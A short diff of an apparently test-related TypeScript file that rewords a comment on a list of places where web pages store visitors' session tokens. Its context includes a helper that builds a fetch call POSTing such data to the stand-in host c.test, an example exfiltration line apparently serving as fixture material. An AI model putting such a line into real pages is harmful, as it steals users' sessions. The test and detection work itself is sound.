@@ -4,7 +4,7 @@ import { traceOf } from "../testing/trace-of.ts";
 
 const send = (what: string): string => `fetch("https://c.test", { method: "POST", body: ${what} });`;
 
-/** Where pages keep what proves who the visitor is. */
+/** Places in which pages keep tokens of the visitor's session. */
 const SOURCES: readonly (readonly [string, string])[] = [
 	[
 		"data in a script element",
